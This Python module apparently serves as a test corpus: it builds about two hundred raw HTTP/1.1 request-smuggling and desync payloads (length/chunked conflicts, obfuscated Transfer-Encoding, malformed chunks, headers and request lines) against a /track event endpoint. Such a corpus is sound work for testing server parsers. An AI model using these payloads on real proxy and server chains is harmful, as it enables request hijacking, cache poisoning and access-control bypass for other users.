"""Attacks on the framing of HTTP/1.1: each is what one client sends on one connection.

Names and shapes follow RFC 9112 section 11, "HTTP Desync Attacks" (Kettle, 2019), and the findings
of "T-Reqs: HTTP Request Smuggling with Differential Fuzzing" (Jabiyev and others, CCS 2021).

Every request in an attack queues an event whose name tells which it is: ``front`` the one that
everybody sees, ``next`` an honest one behind it, ``smuggled`` the one that must not be.
"""

import base64
from urllib.parse import quote


def target(name: str) -> bytes:
    """Return the target of a request that queues the event *name*."""
    event = b'{"event":"%b","properties":{"token":"T","time":1}}' % name.encode()
    return b"/track?data=" + quote(base64.b64encode(event), safe="").encode()


def get(name: str, *lines: bytes) -> bytes:
    """Return a GET that queues the event *name*."""
    return _message(b"GET %b HTTP/1.1" % target(name), (b"Host: x", *lines))


def post(*lines: bytes, body: bytes = b"") -> bytes:
    """Return the POST ``front`` with *lines* for its framing."""
    return _message(b"POST %b HTTP/1.1" % target("front"), (b"Host: x", *lines)) + body


def _message(first: bytes, lines: tuple[bytes, ...]) -> bytes:
    return b"\r\n".join([first, *lines, b"", b""])


SMUGGLED = get("smuggled")
NEXT = get("next")
CHUNKED = b"Transfer-Encoding: chunked"
HIDDEN = b"0\r\n\r\n" + SMUGGLED
"""The end of a chunked body, and behind it what is smuggled."""
LENGTH = b"Content-Length: %d" % len(HIDDEN)
IN_CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
"""What is smuggled as the one chunk of a body."""
DISGUISED = b"%x;x %b HTTP/1.1\r\n%b\r\n0\r\n\r\n" % (
    len(b"X: y\r\n\r\n" + SMUGGLED),
    target("smuggled"),
    b"X: y\r\n\r\n" + SMUGGLED,
)
"""A chunked body that reads as a request, and as one more, to a server that does not unpack it."""
SHORT = b"Content-Length: %d" % len(b"%x\r\n" % len(SMUGGLED))
"""The length up to the beginning of that chunk's data."""


def _framing() -> dict[str, bytes]:
    """Lengths against chunks."""
    te = b"Transfer-Encoding"
    return {
        "CL.TE: length first": post(LENGTH, CHUNKED, body=HIDDEN),
        "TE.CL: chunked first": post(CHUNKED, SHORT, body=IN_CHUNK),
        "TE.CL: length 0": post(CHUNKED, b"Content-Length: 0", body=IN_CHUNK),
        "TE.TE: a second one that is unknown": post(LENGTH, CHUNKED, te + b": x", body=HIDDEN),
        "TE.TE: an unknown one first": post(te + b": x", CHUNKED, LENGTH, body=HIDDEN),
        "TE.TE without length": post(CHUNKED, te + b": identity", body=HIDDEN),
        "TE.TE: chunked twice": post(CHUNKED, CHUNKED, body=IN_CHUNK),
        "TE: chunked, chunked": post(te + b": chunked, chunked", body=IN_CHUNK),
        "TE: chunked, identity": post(te + b": chunked, identity", LENGTH, body=HIDDEN),
        "TE: identity, chunked": post(te + b": identity, chunked", body=IN_CHUNK),
        "TE: gzip, chunked": post(te + b": gzip, chunked", body=IN_CHUNK),
        "TE: identity": post(te + b": identity", LENGTH, body=HIDDEN),
        "TE: xchunked": post(te + b": xchunked", LENGTH, body=HIDDEN),
        "TE: chunkedx": post(te + b": chunkedx", LENGTH, body=HIDDEN),
        "TE: Chunked (capital)": post(te + b": Chunked", body=IN_CHUNK),
        "TE: CHUNKED with a length": post(te + b": CHUNKED", LENGTH, body=HIDDEN),
        "TE: quoted": post(te + b': "chunked"', LENGTH, body=HIDDEN),
        "TE: empty": post(te + b":", LENGTH, body=HIDDEN),
        "TE: a comma first": post(te + b": ,chunked", LENGTH, body=HIDDEN),
        "TE: with a parameter": post(te + b": chunked;a=b", LENGTH, body=HIDDEN),
        "TE: tab before the value": post(te + b":\tchunked", body=IN_CHUNK),
        "TE: vertical tab before the value": post(te + b":\x0bchunked", LENGTH, body=HIDDEN),
        "TE: form feed behind the value": post(te + b": chunked\x0c", LENGTH, body=HIDDEN),
        "TE: NUL behind the value": post(te + b": chunked\x00", LENGTH, body=HIDDEN),
        "TE: non-breaking blank": post(te + b":\xa0chunked", LENGTH, body=HIDDEN),
        "TE: blank before the colon": post(te + b" : chunked", LENGTH, body=HIDDEN),
        "TE: tab before the colon": post(te + b"\t: chunked", LENGTH, body=HIDDEN),
        "TE: blank before the name": post(b" " + CHUNKED, LENGTH, body=HIDDEN),
        "TE: NUL in the name": post(b"Transfer\x00-Encoding: chunked", LENGTH, body=HIDDEN),
        "TE: underscore": post(b"Transfer_Encoding: chunked", LENGTH, body=HIDDEN),
        "TE: folded": post(te + b":\r\n chunked", LENGTH, body=HIDDEN),
        "TE: folded by bare LF": post(te + b":\n chunked", LENGTH, body=HIDDEN),
        "TE: behind a bare LF": post(b"X: y\n" + CHUNKED, LENGTH, body=HIDDEN),
        "TE: behind a bare CR": post(b"X: y\r" + CHUNKED, LENGTH, body=HIDDEN),
        "TE: behind CR CR LF": post(b"X: y\r\r\n" + CHUNKED, LENGTH, body=HIDDEN),
        "TE: behind a NUL": post(b"X: y\x00" + CHUNKED, LENGTH, body=HIDDEN),
        "TE in HTTP/1.0": post(CHUNKED, body=IN_CHUNK).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
        "TE and length in HTTP/1.0": post(LENGTH, CHUNKED, body=HIDDEN).replace(
            b"HTTP/1.1", b"HTTP/1.0", 1
        ),
        "TE: Chunked (capital) on a GET": get("front", te + b": Chunked") + IN_CHUNK,
        "TE: Chunked on a GET, a chunk that looks like a request": get("front", te + b": Chunked")
        + DISGUISED,
        "TE: tab before the value, on a GET, the same": get("front", te + b":\tchunked")
        + DISGUISED,
        "TE: blanks behind the value, on a GET, the same": get("front", te + b": chunked \t ")
        + DISGUISED,
        "TE on a GET, the same": get("front", CHUNKED) + DISGUISED,
        "TE on an unknown path, the same": post(CHUNKED, body=DISGUISED).replace(
            b"/track", b"/nobody", 1
        ),
        "TE on a HEAD, the same": get("front", CHUNKED).replace(b"GET", b"HEAD", 1) + DISGUISED,
        "TE on an OPTIONS *, the same": _message(b"OPTIONS * HTTP/1.1", (b"Host: x", CHUNKED))
        + DISGUISED,
        "TE on an unknown method, the same": get("front", CHUNKED).replace(b"GET", b"FOO", 1)
        + DISGUISED,
        "TE on a GET": get("front", CHUNKED) + IN_CHUNK,
        "TE: named by Connection": post(
            b"Connection: Transfer-Encoding", CHUNKED, LENGTH, body=HIDDEN
        ),
    }


def _lengths() -> dict[str, bytes]:
    """One length against another."""
    size, cl = b"%d" % len(SMUGGLED), b"Content-Length"

    def with_length(*values: bytes) -> bytes:
        return post(*(cl + value for value in values), body=SMUGGLED)

    return {
        "CL twice, equal": with_length(b": " + size, b": " + size),
        "CL twice, 0 first": with_length(b": 0", b": " + size),
        "CL twice, 0 last": with_length(b": " + size, b": 0"),
        "CL twice in other cases": post(cl + b": " + size, b"content-length: 0", body=SMUGGLED),
        "CL: a list of equal ones": with_length(b": %b, %b" % (size, size)),
        "CL: a list of different ones": with_length(b": 0, " + size),
        "CL: plus sign": with_length(b": +" + size),
        "CL: minus sign": with_length(b": -1"),
        "CL: minus zero": with_length(b": -0"),
        "CL: hexadecimal": with_length(b": 0x%x" % len(SMUGGLED)),
        "CL: leading zeros": with_length(b": 000" + size),
        "CL: an exponent": with_length(b": 1e2"),
        "CL: a decimal point": with_length(b": %b.0" % size),
        "CL: a blank inside": with_length(b": %b %b" % (size[:1], size[1:])),
        "CL: an underscore inside": with_length(b": %b_%b" % (size[:1], size[1:])),
        "CL: text behind": with_length(b": %bx" % size),
        "CL: a semicolon behind": with_length(b": %b;x" % size),
        "CL: NUL behind": with_length(b": %b\x00" % size),
        "CL: vertical tab before": with_length(b":\x0b" + size),
        "CL: digits of another script": with_length(b": " + "١٢".encode()),
        "CL: quoted": with_length(b': "%b"' % size),
        "CL: empty": with_length(b":"),
        "CL: 2 to the 64th and more": with_length(b": %d" % ((1 << 64) + len(SMUGGLED))),
        "CL: 2 to the 63rd": with_length(b": %d" % (1 << 63)),
        "CL: blank before the colon": with_length(b" : " + size),
        "CL: no blank behind the colon": with_length(b":" + size),
        "CL: folded": with_length(b":\r\n " + size),
        "CL: folded, a second part": with_length(b": 0\r\n " + size),
        "CL: behind a bare CR": post(b"X: y\rContent-Length: " + size, body=SMUGGLED),
        "CL: behind a bare LF": post(b"X: y\nContent-Length: " + size, body=SMUGGLED),
        "CL: underscore": post(b"Content_Length: " + size, body=NEXT),
        "CL: named by Connection": post(b"Connection: Content-Length", cl + b": " + size)
        + SMUGGLED,
        "CL: named by Connection, with close": post(
            b"Connection: close, Content-Length", cl + b": " + size, body=SMUGGLED
        ),
        "CL on a GET": get("front", cl + b": " + size) + SMUGGLED,
        "CL on a HEAD": get("front", cl + b": " + size).replace(b"GET", b"HEAD", 1) + SMUGGLED,
        "CL on an unknown method": get("front", cl + b": " + size).replace(b"GET", b"FOO", 1)
        + SMUGGLED,
        "CL on a TRACE": get("front", cl + b": " + size).replace(b"GET", b"TRACE", 1) + SMUGGLED,
        "CL on a DELETE": get("front", cl + b": " + size).replace(b"GET", b"DELETE", 1) + SMUGGLED,
        "CL on an OPTIONS *": _message(b"OPTIONS * HTTP/1.1", (b"Host: x", cl + b": " + size))
        + SMUGGLED,
        "CL on an unknown path": with_length(b": " + size).replace(b"/track", b"/nobody", 1),
        "CL on a GET, a blank before": get("front", cl + b":  " + size + b" \t") + SMUGGLED,
        "CL on a GET, leading zeros": get("front", cl + b": 00" + size) + SMUGGLED,
        "CL with a line end behind the body": with_length(b": " + size) + b"\r\n" + NEXT,
        "CL of 2 MB": post(cl + b": %d" % (20_000 * len(SMUGGLED)), body=SMUGGLED * 20_000) + NEXT,
        "CL 0 with a body behind": with_length(b": 0").replace(SMUGGLED, NEXT),
        "no CL, a body behind": post(body=NEXT),
        "CL of more than comes": post(cl + b": 9999", body=b"short"),
        "Content-Range instead of CL": post(b"Content-Range: bytes 0-9/10", body=NEXT),
    }


def _chunks() -> dict[str, bytes]:
    """What a chunk is."""
    size = b"%x" % len(SMUGGLED)

    def chunk(text: bytes) -> bytes:
        return post(CHUNKED, body=text.replace(b"SIZE", size).replace(b"DATA", SMUGGLED))

    return {
        "chunk: extension": chunk(b"SIZE;a=b\r\nDATA\r\n0\r\n\r\n"),
        "chunk: extension, blank before": chunk(b"SIZE ;a=b\r\nDATA\r\n0\r\n\r\n"),
        "chunk: extension with a bare LF": chunk(b"2;\nxx\r\nSIZE\r\n0\r\n\r\nDATA"),
        "chunk: extension with a bare CR": chunk(b"SIZE;a\rb\r\nDATA\r\n0\r\n\r\n"),
        "chunk: extension with a quoted line end": chunk(b'SIZE;a="\r\n"\r\nDATA\r\n0\r\n\r\n'),
        "chunk: extension with a NUL": chunk(b"SIZE;a\x00b\r\nDATA\r\n0\r\n\r\n"),
        "chunk: extension of 100 kB": chunk(b"SIZE;" + b"x" * 100_000 + b"\r\nDATA\r\n0\r\n\r\n"),
        "chunk: blank behind the size": chunk(b"SIZE \r\nDATA\r\n0\r\n\r\n"),
        "chunk: blank before the size": chunk(b" SIZE\r\nDATA\r\n0\r\n\r\n"),
        "chunk: 0x before the size": chunk(b"0xSIZE\r\nDATA\r\n0\r\n\r\n"),
        "chunk: plus before the size": chunk(b"+SIZE\r\nDATA\r\n0\r\n\r\n"),
        "chunk: minus before the size": chunk(b"-SIZE\r\nDATA\r\n0\r\n\r\n"),
        "chunk: size with an underscore": chunk(b"1_0\r\nDATA\r\n0\r\n\r\n"),
        "chunk: leading zeros": chunk(b"0000SIZE\r\nDATA\r\n0\r\n\r\n"),
        "chunk: 15 digits": chunk(b"%015x" % len(SMUGGLED) + b"\r\nDATA\r\n0\r\n\r\n"),
        "chunk: 40 leading zeros": chunk(b"0" * 40 + b"SIZE\r\nDATA\r\n0\r\n\r\n"),
        "chunk: 2 to the 64th and more": chunk(b"10000000000000002\r\nxx\r\n0\r\n\r\nDATA"),
        "chunk: 2 to the 32nd and more": chunk(b"100000002\r\nxx\r\n0\r\n\r\nDATA"),
        "chunk: almost 2 to the 64th": chunk(b"FFFFFFFFFFFFFFFE\r\nxx\r\n0\r\n\r\nDATA"),
        "chunk: no size": chunk(b"\r\nDATA\r\n0\r\n\r\n"),
        "chunk: a size of no digits": chunk(b"g\r\nDATA\r\n0\r\n\r\n"),
        "chunk: LF behind the size": chunk(b"SIZE\nDATA\r\n0\r\n\r\n"),
        "chunk: CR behind the size": chunk(b"SIZE\rDATA\r\n0\r\n\r\n"),
        "chunk: CR CR LF behind the size": chunk(b"SIZE\r\r\nDATA\r\n0\r\n\r\n"),
        "chunk: LF behind the data": chunk(b"2\r\nxx\n0\r\n\r\n"),
        "chunk: CR behind the data": chunk(b"2\r\nxx\r0\r\n\r\n"),
        "chunk: nothing behind the data": chunk(b"2\r\nxx0\r\n\r\n"),
        "chunk: two other bytes behind the data": chunk(b"2\r\nxxyy0\r\n\r\nDATA"),
        "chunk: longer than its size": chunk(b"2\r\nxxxx\r\n0\r\n\r\n"),
        "chunk: LF at the end": chunk(b"2\r\nxx\r\n0\n\nDATA"),
        "chunk: LF behind the last size": chunk(b"2\r\nxx\r\n0\n\r\nDATA"),
        "chunk: LF for the last line": chunk(b"2\r\nxx\r\n0\r\n\nDATA"),
        "chunk: CR for the last line": chunk(b"2\r\nxx\r\n0\r\n\rDATA"),
        "chunk: the last line missing": chunk(b"2\r\nxx\r\n0\r\nDATA"),
        "chunk: last size of many zeros": chunk(b"2\r\nxx\r\n0000\r\n\r\n") + NEXT,
        "chunk: minus zero at the end": chunk(b"2\r\nxx\r\n-0\r\n\r\nDATA"),
        "trailer": chunk(b"2\r\nxx\r\n0\r\nX-T: 1\r\n\r\n") + NEXT,
        "trailer: Content-Length": chunk(b"0\r\nContent-Length: SIZE\r\n\r\n") + NEXT,
        "trailer: Transfer-Encoding": chunk(b"0\r\nTransfer-Encoding: chunked\r\n\r\n") + NEXT,
        "trailer: X-Forwarded-For": chunk(b"0\r\nX-Forwarded-For: 192.0.2.1\r\n\r\n") + NEXT,
        "trailer: no colon": chunk(b"0\r\nno colon\r\n\r\n") + NEXT,
        "trailer: bare LF": chunk(b"0\r\nX: y\n\nDATA\r\n\r\n"),
        "trailer: bare CR": chunk(b"0\r\nX: y\rDATA\r\n\r\n"),
        "trailer: folded": chunk(b"0\r\nX: y\r\n z\r\n\r\n") + NEXT,
        "trailer: 100 kB": chunk(b"0\r\n" + b"X: yyyyyyyy\r\n" * 8_000 + b"\r\n"),
        "chunk: not whole": chunk(b"2\r\nxx\r\n0\r\n"),
    }


def _lines() -> dict[str, bytes]:
    """What a request line is."""

    def line(text: bytes) -> bytes:
        return text.replace(b"TARGET", target("front")) + b"\r\nHost: x\r\n\r\n" + NEXT

    return {
        "HTTP/0.9": b"GET %b\r\n" % target("front"),
        "HTTP/0.9 with a version": line(b"GET TARGET HTTP/0.9"),
        "HTTP/1.2": line(b"GET TARGET HTTP/1.2"),
        "HTTP/1.10": line(b"GET TARGET HTTP/1.10"),
        "HTTP/2.0": line(b"GET TARGET HTTP/2.0"),
        "HTTP/11": line(b"GET TARGET HTTP/11"),
        "http/1.1": line(b"GET TARGET http/1.1"),
        "HTTP/1.1 and more": line(b"GET TARGET HTTP/1.1 x"),
        "HTTP/1.1 twice": line(b"GET TARGET HTTP/1.1 HTTP/1.1"),
        "HTTP / 1.1": line(b"GET TARGET HTTP / 1.1"),
        "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + NEXT,
        "Upgrade: h2c": get(
            "front", b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AA"
        )
        + NEXT,
        "Upgrade: websocket": get("front", b"Connection: Upgrade", b"Upgrade: websocket") + NEXT,
        "CONNECT": b"CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\n\r\n" + SMUGGLED,
        "CONNECT to a path": line(b"CONNECT TARGET HTTP/1.1"),
        "two blanks before the target": line(b"GET  TARGET HTTP/1.1"),
        "two blanks before the version": line(b"GET TARGET  HTTP/1.1"),
        "tabs in the request line": line(b"GET\tTARGET\tHTTP/1.1"),
        "vertical tab in the request line": line(b"GET\x0bTARGET HTTP/1.1"),
        "blank before the method": line(b" GET TARGET HTTP/1.1"),
        "blank behind the version": line(b"GET TARGET HTTP/1.1 "),
        "CR in the target": line(b"GET TARGET\rx HTTP/1.1"),
        "LF in the target": line(b"GET TARGET\nx HTTP/1.1"),
        "NUL in the target": line(b"GET TARGET\x00 HTTP/1.1"),
        "blank in the target": line(b"GET TARGET x HTTP/1.1"),
        "DEL in the target": line(b"GET TARGET\x7f HTTP/1.1"),
        "bytes from 0x80 in the target": line(b"GET TARGET&x=\xff\xfe HTTP/1.1"),
        "fragment in the target": line(b"GET TARGET#part HTTP/1.1"),
        "no target": line(b"GET HTTP/1.1"),
        "no method": line(b"TARGET HTTP/1.1"),
        "only a method": b"GET\r\n\r\n" + NEXT,
        "a colon in the method": line(b"GE:T TARGET HTTP/1.1"),
        "NUL in the method": line(b"GE\x00T TARGET HTTP/1.1"),
        "method in lower case": line(b"get TARGET HTTP/1.1"),
        "unknown method": line(b"FOO TARGET HTTP/1.1"),
        "method of 1000 letters": line(b"G" * 1000 + b" TARGET HTTP/1.1"),
        "absolute-form": line(b"GET http://evil.exampleTARGET HTTP/1.1"),
        "absolute-form, another scheme": line(b"GET gopher://evil.exampleTARGET HTTP/1.1"),
        "absolute-form, a user": line(b"GET http://a@b:80TARGET HTTP/1.1"),
        "authority-form": line(b"GET evil.example:80 HTTP/1.1"),
        "asterisk-form": line(b"GET * HTTP/1.1"),
        "two slashes": line(b"GET /TARGET HTTP/1.1"),
        "dots": line(b"GET /a/../..TARGET HTTP/1.1"),
        "an encoded line end in the target": line(b"GET TARGET%0d%0aX:%20y HTTP/1.1"),
        "target of 10 kB": line(b"GET TARGET&x=" + b"x" * 10_000 + b" HTTP/1.1"),
        "target of 200 kB": line(b"GET TARGET&x=" + b"x" * 200_000 + b" HTTP/1.1"),
        "empty lines first": b"\r\n\r\n\r\n" + get("front") + NEXT,
        "LFs first": b"\n\n" + get("front") + NEXT,
        "CR first": b"\r" + get("front") + NEXT,
        "LF for every line end": get("front").replace(b"\r\n", b"\n") + NEXT,
        "LF for the end of the head": get("front").replace(b"\r\n\r\n", b"\r\n\n") + NEXT,
        "CR for every line end": get("front").replace(b"\r\n", b"\r") + NEXT,
        "CR LF CR for the end of the head": get("front")[:-1] + NEXT,
        "LF CR for line ends": get("front").replace(b"\r\n", b"\n\r") + NEXT,
    }


def _headers() -> dict[str, bytes]:
    """What a header line is."""

    def line(*texts: bytes) -> bytes:
        return get("front", *texts) + NEXT

    return {
        "folded header": line(b"X: a\r\n b"),
        "folded header, tab": line(b"X: a\r\n\tb"),
        "folded first header": b"GET %b HTTP/1.1\r\n Host: x\r\n\r\n" % target("front") + NEXT,
        "folded empty line": line(b"X: a\r\n \r\n b"),
        "no colon": line(b"Nonsense"),
        "no name": line(b": value"),
        "blank in the name": line(b"X Y: z"),
        "blank before the colon": line(b"X : y"),
        "NUL in a name": line(b"X\x00Y: z"),
        "NUL in a value": line(b"X: a\x00b"),
        "bare CR in a value": line(b"X: a\rb"),
        "bare CR and a header": line(b"X: a\rY: b"),
        "bare LF in a value": line(b"X: a\nY: b"),
        "bare LF and an empty line": get("front", b"X: a\n\n" + SMUGGLED.rstrip()),
        "bare CR and an empty line": get("front", b"X: a\r\r" + SMUGGLED.rstrip()),
        "CR CR LF": line(b"X: a\r"),
        "control byte in a value": line(b"X: a\x01b"),
        "DEL in a value": line(b"X: a\x7fb"),
        "bytes from 0x80 in a value": line(b"X: \xff\xfe"),
        "bytes from 0x80 in a name": line(b"X\xff: a"),
        "parentheses in a name": line(b"X(a): b"),
        "underscore in a name": line(b"X_a: b"),
        "empty value": line(b"X:"),
        "no Host": b"GET %b HTTP/1.1\r\n\r\n" % target("front") + NEXT,
        "Host twice": line(b"Host: y"),
        "Host with a path": b"GET %b HTTP/1.1\r\nHost: x/y?z\r\n\r\n" % target("front") + NEXT,
        "Host empty": b"GET %b HTTP/1.1\r\nHost:\r\n\r\n" % target("front") + NEXT,
        "Connection names X-Forwarded-For": line(
            b"Connection: close, X-Forwarded-For", b"X-Forwarded-For: 192.0.2.1"
        ),
        "Connection names Host": line(b"Connection: keep-alive, Host"),
        "X-Forwarded-For twice": line(b"X-Forwarded-For: 1.1.1.1", b"X-Forwarded-For: 2.2.2.2"),
        "X-Forwarded-For with blanks": line(b"X-Forwarded-For : 1.1.1.1"),
        "Expect unknown": line(b"Expect: 200-ok"),
        "Expect and a body at once": post(
            b"Expect: 100-continue", b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED
        )
        + NEXT,
        "Expect and a body at once on a GET": get(
            "front", b"Expect: 100-continue", b"Content-Length: %d" % len(SMUGGLED)
        )
        + SMUGGLED
        + NEXT,
        "Expect and chunks at once on a GET": get("front", b"Expect: 100-continue", CHUNKED)
        + DISGUISED
        + NEXT,
        "Expect and a body on an unknown path": post(
            b"Expect: 100-continue", b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED
        ).replace(b"/track", b"/nobody", 1)
        + NEXT,
        "Expect twice": post(
            b"Expect: 100-continue",
            b"Expect: 100-continue",
            b"Content-Length: %d" % len(SMUGGLED),
            body=SMUGGLED,
        )
        + NEXT,
        "Expect with more than 100-continue": post(
            b"Expect: y 100-continue", b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED
        )
        + NEXT,
        "Expect in HTTP/1.0": post(
            b"Expect: 100-continue", b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED
        ).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
        "Expect on a GET without body": line(b"Expect: 100-continue"),
        "header of 9 kB": line(b"X: " + b"x" * 9_000),
        "header of 200 kB": line(b"X: " + b"x" * 200_000),
        "header name of 20 kB": line(b"X" * 20_000 + b": x"),
        "900 headers": line(*(b"X-%d: y" % number for number in range(900))),
        "20 000 headers": line(*(b"X-%d: y" % number for number in range(20_000))),
    }


def _streams() -> dict[str, bytes]:
    """What is no request at all, and what follows it."""
    return {
        "nothing wrong": get("front") + NEXT,
        "garbage, then a request": b"\x00\x01\x02garbage\r\n\r\n" + SMUGGLED,
        "a request, then garbage": get("front") + b"\x00garbage\r\n\r\n",
        "an error, then a request": get("front", b"X : y") + SMUGGLED,
        "an oversize head, then a request": get("front", b"X: " + b"x" * 300_000) + SMUGGLED,
        "TLS hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
        "PROXY line": b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + SMUGGLED,
        "an answer instead of a request": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
        + SMUGGLED,
        "close, then a request": get("front", b"Connection: close") + SMUGGLED,
        "HTTP/1.0, then a request": get("front").replace(b"1.1", b"1.0", 1) + SMUGGLED,
        "a head that is not whole": get("front")[:-2],
        "100 requests at once": get("front") * 99 + NEXT,
    }


ATTACKS: dict[str, bytes] = {
    **_framing(),
    **_lengths(),
    **_chunks(),
    **_lines(),
    **_headers(),
    **_streams(),
}
